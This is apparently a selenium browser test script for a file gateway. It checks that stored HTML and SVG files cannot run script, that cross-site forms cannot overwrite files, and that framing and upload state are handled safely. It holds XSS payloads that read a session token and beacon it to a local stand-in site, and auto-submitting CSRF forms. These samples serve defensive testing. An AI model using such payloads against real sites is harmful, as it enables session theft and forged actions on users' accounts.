"""The gateway's origin as an attacker's target, in headless Chromium driven
by selenium (run by gateway/tests/browser.rs). Each mode prints one JSON
line; the caller also checks the gateway's state over HTTP.

    browser_security.py xss   BASE WORKDIR
    browser_security.py csrf  BASE WORKDIR
    browser_security.py state BASE WORKDIR

A small HTTP server on another port of this machine plays the other site
(another origin; the same "site" to a browser, as ports do not count): it
serves the attacker's pages and counts the beacons a script that ran sends.

xss: alice signs in on the page (her token in sessionStorage), her browser
holds her Basic credentials; files of hers carry script (evil.html,
evil.svg, notes.txt). She opens each in the same tab, by a link on another
site (same tab and new tab). A script that ran would send its beacon with
the token it could read. As a control the same payload served by the other
site must send its beacon, so silence means "did not run", not "could not
tell".

csrf: with alice's Basic credentials cached, a page on the other site
auto-submits a form to POST /upload?key=alice.txt&overwrite=true (a file
part made with DataTransfer; then a text field named file). As a control a
GET form from the same page shows that the browser does attach alice's
credentials to the other site's requests.

state: the page in an iframe of the other site must not load; alice's
unfinished upload (its name, its URL) must be invisible to bob signing in
on the same browser, and gone from the browser (and the server) once
alice signs out, also while it is uploading.
"""

import base64
import hashlib
import json
import os
import shutil
import sys
import threading
import time
import urllib.parse
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from selenium import webdriver
from selenium.common.exceptions import NoAlertPresentException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions as EC
from selenium.webdriver.support.ui import WebDriverWait

PATIENCE = 60
# A 1x1 PNG: passive content, shown inline.
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
# How long a script that ran has to send its beacon once its page loaded.
# The control beacons arrive within milliseconds.
BEACON_WAIT = 3.0


def password(user):
    """STEP's open-mode password: md5 of the user name."""
    return hashlib.md5(user.encode()).hexdigest()


class OtherSite:
    """Another origin on this machine: serves `pages`, records beacons."""

    def __init__(self):
        self.pages = {}
        self.hits = []
        self.cond = threading.Condition()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                path, _, query = self.path.partition("?")
                if path == "/hit":
                    with site.cond:
                        site.hits.append(urllib.parse.parse_qs(query))
                        site.cond.notify_all()
                    body, kind = b"", "image/gif"
                elif path in site.pages:
                    body, kind = site.pages[path]
                else:
                    self.send_error(404)
                    return
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Cache-Control", "no-store")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def page(self, path, text, kind="text/html; charset=utf-8"):
        self.pages[path] = (text.encode(), kind)
        return self.url + path

    def beacons(self, tag, wait):
        """The beacons tagged `tag` that arrive within `wait` seconds."""
        deadline = time.monotonic() + wait
        with self.cond:
            while True:
                got = [h for h in self.hits if h.get("from") == [tag]]
                left = deadline - time.monotonic()
                if got or left <= 0:
                    return got
                self.cond.wait(left)


def payload_js(beacon, tag):
    """What a stored script would do: read the page's token and send it."""
    return f"""(function () {{
  var token = "(none)";
  try {{ token = sessionStorage.getItem("step-token") || "(none)"; }}
  catch (e) {{ token = "(blocked " + e.name + ")"; }}
  var url = "{beacon}/hit?from={tag}&token=" + encodeURIComponent(token) +
    "&origin=" + encodeURIComponent(location.origin);
  new Image().src = url;
  try {{ fetch(url, {{mode: "no-cors"}}); }} catch (e) {{}}
  document.title = "RAN {tag}";
}})();"""


def evil_html(beacon, tag):
    return f"<!doctype html><title>evil</title><p>hello</p><script>{payload_js(beacon, tag)}</script>"


def evil_svg(beacon, tag):
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">'
        '<rect width="40" height="40" fill="red"/>'
        f"<script><![CDATA[{payload_js(beacon, tag)}]]></script></svg>"
    )


def driver(downloads):
    opts = webdriver.ChromeOptions()
    opts.binary_location = shutil.which("chromium") or "/usr/bin/chromium"
    for a in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage",
              "--window-size=1100,900", "--disable-gpu"):
        opts.add_argument(a)
    opts.add_experimental_option("prefs", {
        "download.default_directory": downloads,
        "download.prompt_for_download": False,
    })
    service = Service(executable_path=shutil.which("chromedriver") or "/usr/bin/chromedriver")
    return webdriver.Chrome(options=opts, service=service)


def with_credentials(base, user):
    """BASE with user:password in it (the browser caches them when the
    gateway challenges)."""
    scheme, rest = base.split("://", 1)
    return f"{scheme}://{user}:{password(user)}@{rest}"


def http(base, method, path, token=None, body=None, headers=None):
    h = dict(headers or {})
    if token:
        h["Authorization"] = "Bearer " + token
    req = urllib.request.Request(base + path, data=body, method=method, headers=h)
    try:
        with urllib.request.urlopen(req, timeout=30) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


def login(base, user):
    status, body = http(base, "POST", "/login",
                        body=json.dumps({"username": user}).encode(),
                        headers={"Content-Type": "application/json"})
    assert status == 200, (status, body)
    return json.loads(body)["token"]


def sign_in(d, base, user):
    """Sign in with the page's own form (the gateway requires a token)."""
    d.get(base + "/")
    WebDriverWait(d, PATIENCE).until(EC.visibility_of_element_located((By.ID, "login")))
    d.find_element(By.ID, "username").send_keys(user)
    d.find_element(By.CSS_SELECTOR, "#login-form button[type=submit]").click()
    WebDriverWait(d, PATIENCE).until(EC.invisibility_of_element_located((By.ID, "login")))


# ------------------------------------------------------------------ xss


def xss(base, workdir):
    site = OtherSite()
    token = login(base, "alice")
    files = {
        "evil.html": evil_html(site.url, "html"),
        "evil.svg": evil_svg(site.url, "svg"),
        # Plain text is shown inline: as text, never as a page.
        "notes.txt": evil_html(site.url, "txt"),
    }
    for key, text in files.items():
        status, _ = http(base, "PUT", "/files/" + key, token, text.encode())
        assert status == 201, (key, status)
    status, _ = http(base, "PUT", "/files/dot.png", token, PNG)
    assert status == 201, status
    control = site.page("/control.html", evil_html(site.url, "control"))
    control_svg = site.page("/control.svg", evil_svg(site.url, "control-svg"), "image/svg+xml")
    links = site.page("/links.html", f"""<!doctype html><title>links</title>
<a id="svg" href="{base}/files/evil.svg">a picture</a>
<a id="html" href="{base}/files/evil.html">a page</a>
<a id="svg-tab" href="{base}/files/evil.svg" target="_blank">a picture, new tab</a>
<a id="html-tab" href="{base}/files/evil.html" target="_blank">a page, new tab</a>""")
    downloads = os.path.join(workdir, "downloads")
    os.makedirs(downloads, exist_ok=True)
    d = driver(downloads)
    report = {"controls": {}, "ran": {}, "tokens": []}
    try:
        # The harness sees a script that runs: the payload from the other
        # site's own origin sends its beacon.
        for tag, url in (("control", control), ("control-svg", control_svg)):
            d.get(url)
            report["controls"][tag] = len(site.beacons(tag, PATIENCE))
        sign_in(d, base, "alice")
        assert d.execute_script("return sessionStorage.getItem('step-token')"), "signed in"
        # alice's browser holds her Basic credentials (as after a download
        # that asked for them).
        d.get(with_credentials(base, "alice") + "/files/notes.txt")
        # Same tab, typed or bookmarked.
        for key, tag in (("evil.html", "html"), ("evil.svg", "svg"), ("notes.txt", "txt")):
            d.get(base + "/")
            d.get(f"{base}/files/{key}")
            got = site.beacons(tag, BEACON_WAIT)
            report["ran"][f"same tab {key}"] = len(got)
            report["tokens"] += [h.get("token", [""])[0] for h in got]
            report.setdefault("titles", []).append(d.title)
        report["notes_shown_as_text"] = "<script>" in d.find_element(By.TAG_NAME, "body").text
        # Passive content still shows in the browser, sandboxed.
        d.get(f"{base}/files/dot.png")
        report["png_shown"] = d.execute_script(
            "return document.images.length ? document.images[0].naturalWidth : -1")
        # By a link on the other site, in the same tab and in a new one.
        for link, tag in (("svg", "svg"), ("html", "html"), ("svg-tab", "svg"), ("html-tab", "html")):
            site.hits.clear()
            d.get(base + "/")
            d.get(links)
            main = d.current_window_handle
            d.find_element(By.ID, link).click()
            got = site.beacons(tag, BEACON_WAIT)
            report["ran"][f"link {link}"] = len(got)
            report["tokens"] += [h.get("token", [""])[0] for h in got]
            for handle in d.window_handles:
                if handle != main:
                    d.switch_to.window(handle)
                    d.close()
            d.switch_to.window(main)
        report["downloaded"] = sorted(os.listdir(downloads))
    finally:
        d.quit()
    print(json.dumps(report), flush=True)


# ------------------------------------------------------------------ csrf


def csrf(base, workdir):
    site = OtherSite()
    action = f"{base}/upload?key=alice.txt&overwrite=true"
    file_form = site.page("/file.html", f"""<!doctype html><title>win a prize</title>
<form id="f" method="POST" enctype="multipart/form-data" action="{action}">
<input type="file" name="file" id="file"></form>
<script>
var dt = new DataTransfer();
dt.items.add(new File(["forged by another site"], "alice.txt", {{type: "text/plain"}}));
document.getElementById("file").files = dt.files;
document.getElementById("f").submit();
</script>""")
    text_form = site.page("/text.html", f"""<!doctype html><title>win a prize</title>
<form id="f" method="POST" enctype="multipart/form-data" action="{action}">
<input type="hidden" name="file" value="forged by another site"></form>
<script>document.getElementById("f").submit();</script>""")
    get_form = site.page("/get.html", f"""<!doctype html><title>look</title>
<form id="f" method="GET" action="{base}/files/alice.txt"></form>
<script>document.getElementById("f").submit();</script>""")
    d = driver(workdir)
    report = {}
    try:
        # alice's browser holds her Basic credentials.
        d.get(with_credentials(base, "alice") + "/files/alice.txt")
        report["alice_sees"] = d.find_element(By.TAG_NAME, "body").text
        for name, url in (("get", get_form), ("file", file_form), ("text", text_form)):
            d.get(url)
            WebDriverWait(d, PATIENCE).until(lambda d: d.current_url.startswith(base))
            report[name] = d.find_element(By.TAG_NAME, "body").text
    finally:
        d.quit()
    print(json.dumps(report), flush=True)


# ------------------------------------------------------------------ state


def stored_text(d):
    return d.execute_script("return JSON.stringify(Object.assign({}, localStorage))")


def state(base, workdir):
    site = OtherSite()
    frame = site.page("/frame.html", f"""<!doctype html><title>framed</title>
<iframe id="f" src="{base}/" width="900" height="600"></iframe>""")
    path = os.path.join(workdir, "alice-secret-plans.pdf")
    with open(path, "wb") as f:
        f.write(os.urandom(3_000_000))
    d = driver(workdir)
    report = {}
    try:
        # Framing: the page refuses to load inside another site's frame.
        d.get(frame)
        d.switch_to.frame("f")
        WebDriverWait(d, PATIENCE).until(
            lambda d: d.execute_script("return document.readyState") == "complete")
        report["framed_page_loaded"] = bool(d.find_elements(By.ID, "drop"))
        d.switch_to.default_content()

        # alice starts an upload that cannot finish soon (uploads throttled).
        sign_in(d, base, "alice")
        d.execute_cdp_cmd("Network.enable", {})
        d.execute_cdp_cmd("Network.emulateNetworkConditions", {
            "offline": False, "latency": 0,
            "downloadThroughput": -1, "uploadThroughput": 100 * 1024})
        d.find_element(By.ID, "file-input").send_keys(path)
        WebDriverWait(d, PATIENCE).until(lambda d: "alice-secret-plans" in stored_text(d))
        kept = json.loads(
            next(v for v in json.loads(stored_text(d)).values() if "alice-secret-plans" in v)
        )
        report["upload_url"] = next(iter(kept.values()))["url"]
        # Interrupted by a reload: unfinished, and remembered for alice.
        d.refresh()
        WebDriverWait(d, PATIENCE).until(EC.visibility_of_element_located((By.ID, "pending")))
        report["alice_pending"] = d.find_element(By.ID, "pending").text
        alice_tab = d.current_window_handle

        # bob signs in on the same browser, in a tab of his own.
        d.switch_to.new_window("tab")
        sign_in(d, base, "bob")
        pending = d.find_element(By.ID, "pending")
        report["bob_pending"] = pending.text if pending.is_displayed() else ""
        d.close()
        d.switch_to.window(alice_tab)

        # alice resumes (the upload is running again), then signs out.
        d.find_element(By.ID, "file-input").send_keys(path)
        WebDriverWait(d, PATIENCE).until(
            lambda d: "Continuing" in d.find_element(By.CSS_SELECTOR, "#uploads li .info").text
            or "/s" in d.find_element(By.CSS_SELECTOR, "#uploads li .info").text)
        d.find_element(By.ID, "logout").click()
        # The page asks first, in its own dialog.
        try:
            WebDriverWait(d, 5).until(EC.visibility_of_element_located((By.ID, "confirm")))
            report["confirm"] = d.find_element(By.ID, "confirm").text
            d.find_element(By.ID, "confirm-yes").click()
        except Exception:
            report["confirm"] = None
        WebDriverWait(d, PATIENCE).until(EC.invisibility_of_element_located((By.ID, "who")))
        report["stored_after_signout"] = stored_text(d)
        report["uploads_shown_after_signout"] = d.find_element(By.ID, "uploads").text
        pending = d.find_element(By.ID, "pending")
        report["pending_after_signout"] = pending.text if pending.is_displayed() else ""
        d.refresh()
        WebDriverWait(d, PATIENCE).until(
            lambda d: d.execute_script("return document.readyState") == "complete")
        report["stored_after_reload"] = stored_text(d)
    finally:
        try:
            d.switch_to.alert.dismiss()
        except NoAlertPresentException:
            pass
        except Exception:
            pass
        d.quit()
    print(json.dumps(report), flush=True)


if __name__ == "__main__":
    mode, base, workdir = sys.argv[1], sys.argv[2].rstrip("/"), sys.argv[3]
    {"xss": xss, "csrf": csrf, "state": state}[mode](base, workdir)
